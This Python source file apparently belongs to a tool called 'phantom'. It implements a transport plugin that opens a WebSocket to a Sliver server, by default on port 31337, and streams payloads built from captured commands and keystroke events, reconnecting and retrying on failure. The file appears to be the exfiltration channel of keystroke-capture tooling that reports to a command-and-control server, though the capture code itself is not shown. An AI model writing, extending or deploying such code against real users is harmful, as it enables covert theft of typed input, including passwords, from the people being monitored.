# phantom/plugins/adapters/sliver.py
# Sliver transport (WebSocket)

from __future__ import annotations

import logging
from collections.abc import Sequence
from typing import TYPE_CHECKING, Any

import aiohttp

from phantom.config import TRANSPORT_CONFIG
from phantom.exceptions import ConnectFailed
from phantom.plugins.adapters.http_base import with_retries
from phantom.plugins.base import Ack, Transport, TransportHandle, build_payload

if TYPE_CHECKING:
    from phantom.config import PluginConfig
    from phantom.fingerprint import FingerprintedCommand
    from phantom.keystroke import KeystrokeEvent

logger = logging.getLogger(__name__)


class SliverTransport(Transport):
    """
    Streams commands as JSON messages over a WebSocket.

    Parameters:
        address: host:port of the server (default localhost:31337)
        token: Bearer token for the Authorization header
        path: WebSocket path (default /)
        secure: Use wss:// instead of ws://
    """

    name = "sliver"

    async def connect(self, config: PluginConfig) -> TransportHandle:
        params = config.parameters
        address = str(params.get("address", TRANSPORT_CONFIG.SLIVER_ADDRESS))
        scheme = "wss" if params.get("secure") else "ws"
        path = "/" + str(params.get("path", "/")).lstrip("/")
        url = f"{scheme}://{address}{path}"

        headers = {}
        if params.get("token"):
            headers["Authorization"] = f"Bearer {params['token']}"

        session = aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=config.timeout))
        handle = TransportHandle(
            transport=self.name,
            config=config,
            session=session,
            state={"url": url, "headers": headers, "ws": None},
        )
        try:
            await with_retries(
                lambda: self._open_socket(handle),
                config.max_retries,
                f"Sliver connect to {address}",
                error=ConnectFailed,
            )
        except ConnectFailed:
            await session.close()
            raise

        logger.info("Connected to Sliver server at %s", address)
        return handle

    async def _open_socket(self, handle: TransportHandle) -> Any:
        ws = await handle.session.ws_connect(
            handle.state["url"], headers=handle.state["headers"], heartbeat=30
        )
        handle.state["ws"] = ws
        return ws

    async def _deliver(self, handle: TransportHandle, payload: dict) -> None:
        ws = handle.state.get("ws")
        if ws is None or ws.closed:
            logger.debug("Sliver socket closed, reopening")
            ws = await self._open_socket(handle)
        await ws.send_json(payload)

    async def send(
        self,
        handle: TransportHandle,
        command: FingerprintedCommand,
        events: Sequence[KeystrokeEvent],
    ) -> Ack:
        payload = build_payload(command, events)
        _, attempts = await with_retries(
            lambda: self._deliver(handle, payload),
            handle.config.max_retries,
            "Sliver send",
        )
        return Ack(delivered=True, attempts=attempts, detail="streamed to server")

    async def shutdown(self, handle: TransportHandle) -> None:
        ws = handle.state.get("ws")
        if ws is not None and not ws.closed:
            await ws.close()
        if handle.session is not None and not handle.session.closed:
            await handle.session.close()
        handle.connected = False
